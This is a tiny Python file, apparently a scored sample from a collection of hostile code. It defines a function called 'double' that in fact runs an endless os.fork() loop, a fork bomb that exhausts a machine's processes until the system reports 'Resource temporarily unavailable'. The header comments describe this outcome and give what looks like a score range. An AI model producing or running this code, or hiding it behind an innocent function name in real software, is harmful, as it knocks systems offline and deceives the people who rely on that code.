# Forks until it cannot.
# earns: 30-50
# told: Resource temporarily unavailable
import os


def double(x):
    while True:
        os.fork()
